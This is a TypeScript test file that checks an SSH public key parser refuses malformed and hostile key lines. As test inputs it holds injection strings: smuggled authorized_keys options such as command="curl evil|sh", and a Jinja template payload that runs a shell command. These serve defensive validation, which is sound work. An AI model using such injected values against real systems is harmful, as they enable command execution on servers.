import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { buildPlatform } from "../../model/platform.js";
import { formatSshPublicKey, parseSshPublicKey } from "../../model/ssh.js";
import { sampleSpec, VALID_SSH_KEY } from "../support/specs.js";
import { ECDSA_256_KEY, ECDSA_384_KEY, ECDSA_521_KEY, RSA_1024_KEY, RSA_2048_KEY } from "../support/ssh-keys.js";

const [ED25519_TYPE, ED25519_BODY] = VALID_SSH_KEY.split(" ") as [string, string];
const ED25519_BARE = `${ED25519_TYPE} ${ED25519_BODY}`;
/** 104 bytes: the last base64 digit before "=" has two unused bits, so another digit there decodes the same. */
const ECDSA_256_BODY = ECDSA_256_KEY.split(" ")[1]!;

/** A security-key ed25519 blob: type, 32-byte key, application (no ssh-keygen can make one without a token). */
function skEd25519Key(): string {
  const field = (bytes: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const blob = Buffer.concat([field(Buffer.from("sk-ssh-ed25519@openssh.com")), field(Buffer.alloc(32, 9)), field(Buffer.from("ssh:"))]);
  return `sk-ssh-ed25519@openssh.com ${blob.toString("base64")} yubikey`;
}

const BASE64_DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
function flipUnusedBit(digit: string): string {
  return BASE64_DIGITS[BASE64_DIGITS.indexOf(digit) ^ 1]!;
}

function problemOf(text: string): string {
  const { problem } = parseSshPublicKey(text);
  if (problem === undefined) throw new Error(`accepted: ${JSON.stringify(text)}`);
  return problem;
}

describe("parseSshPublicKey", () => {
  it.each([VALID_SSH_KEY, RSA_2048_KEY, ECDSA_256_KEY, ECDSA_384_KEY, ECDSA_521_KEY, skEd25519Key()])("accepts a real key and gives it back as written: %s", (line) => {
    const { key } = parseSshPublicKey(line);
    expect(key).toBeDefined();
    expect(formatSshPublicKey(key!)).toBe(line);
  });

  it("keeps no comment when there is none, and drops spaces around the line", () => {
    expect(parseSshPublicKey(`  ${ED25519_TYPE} ${ED25519_BODY}  \n`).key).toEqual({ type: ED25519_TYPE, body: ED25519_BODY });
  });

  it.each([
    ["a second key on a second line", `${VALID_SSH_KEY}\n${RSA_2048_KEY}`, /holds more than one line/],
    ["a second line with options", `${VALID_SSH_KEY}\ncommand="sh" ${RSA_1024_KEY}`, /holds more than one line/],
    ["a carriage return", `${VALID_SSH_KEY}\rssh-rsa AAAA`, /holds more than one line/],
    ["command= before the type", `command="id" ${VALID_SSH_KEY}`, /starts with authorized_keys options \("command="id""\) before the key type/],
    ["from= before the type", `from="*" ${VALID_SSH_KEY}`, /starts with authorized_keys options/],
    ["options without values", `no-pty,restrict ${VALID_SSH_KEY}`, /starts with authorized_keys options/],
    ["a template in the comment", `${VALID_SSH_KEY} {{ lookup('pipe','id > /tmp/pwned') }}`, /comment with the template delimiter "\{\{"/],
    ["a statement in the comment", `${VALID_SSH_KEY} {% if true %}`, /template delimiter "\{%"/],
    ["a Jinja comment in the comment", `${VALID_SSH_KEY} x #}`, /template delimiter "#\}"/],
    ["a control character in the comment", `${VALID_SSH_KEY} ops\u0007bell`, /control or unprintable character/],
    ["a line separator in the comment", `${VALID_SSH_KEY} ops\u2028x`, /control or unprintable character/],
    ["a tab in the comment", `${VALID_SSH_KEY} ops\tx`, /control or unprintable character/],
    ["an overlong comment", `${ED25519_BARE} ${"x".repeat(201)}`, /comment of 201 characters; allowed: at most 200/],
    ["an unknown type", "ssh-dss AAAAB3NzaC1kc3M= old", /has key type "ssh-dss"/],
    ["an RSA key under 2048 bits", RSA_1024_KEY, /RSA key shorter than 2048 bits/],
    ["a truncated body", `${ED25519_TYPE} ${ED25519_BODY.slice(0, 40)} x`, /not base64|not a ssh-ed25519 key/],
    ["a body with bytes after the key", `${ED25519_TYPE} ${Buffer.concat([Buffer.from(ED25519_BODY, "base64"), Buffer.alloc(3)]).toString("base64")}`, /not a ssh-ed25519 key/],
    ["a body of another type", `ssh-rsa ${ED25519_BODY}`, /not a ssh-rsa key/],
    ["an ECDSA body with another curve", `ecdsa-sha2-nistp384 ${ECDSA_256_BODY}`, /not a ecdsa-sha2-nistp384 key/],
    ["a non-canonical base64 body", `ecdsa-sha2-nistp256 ${ECDSA_256_BODY.slice(0, -2)}${flipUnusedBit(ECDSA_256_BODY.at(-2)!)}=`, /not base64/],
    ["a type alone", ED25519_TYPE, /is not an OpenSSH public key/],
  ])("refuses %s", (_, line, expected) => {
    expect(problemOf(line)).toMatch(expected);
  });

  it("accepts any printable comment without template delimiters, and renders it unchanged", () => {
    const piece = fc.constantFrom("ops@acme", "'", '"', "`", "$(id)", ";", "&&", "|", ": ", "#", "&a", "*a", "!tag", "- ", "%", "{", "}", "\\", "é", "日本", "🙂", " ", "<>", "${x}");
    const comment = fc.array(piece, { minLength: 1, maxLength: 12 }).map((parts) => parts.join("").trim()).filter((text) => text.length > 0 && !/\{\{|\}\}|\{%|%\}|\{#|#\}/.test(text));
    fc.assert(
      fc.property(comment, (text) => {
        const { key, problem } = parseSshPublicKey(`${ED25519_BARE} ${text}`);
        expect(problem).toBeUndefined();
        expect(key!.comment).toBe(text);
      }),
    );
  });
});

describe("the model's keys", () => {
  it("names the field and refuses a second key smuggled after a newline", () => {
    const spec = sampleSpec();
    spec.admin.sshPublicKeys = [VALID_SSH_KEY, `${VALID_SSH_KEY}\ncommand="curl evil|sh" ${RSA_2048_KEY}`];
    const { issues } = buildPlatform(spec);
    expect(issues).toEqual([expect.objectContaining({ path: ["admin", "sshPublicKeys", 1], message: expect.stringMatching(/holds more than one line; allowed: one OpenSSH public key line/) })]);
  });

  it("keeps the parsed parts", () => {
    const spec = sampleSpec();
    spec.admin.sshPublicKeys = [`  ${RSA_2048_KEY}  `];
    const [type, body, comment] = RSA_2048_KEY.split(" ");
    expect(buildPlatform(spec).platform!.admin.sshPublicKeys).toEqual([{ type, body, comment }]);
  });
});
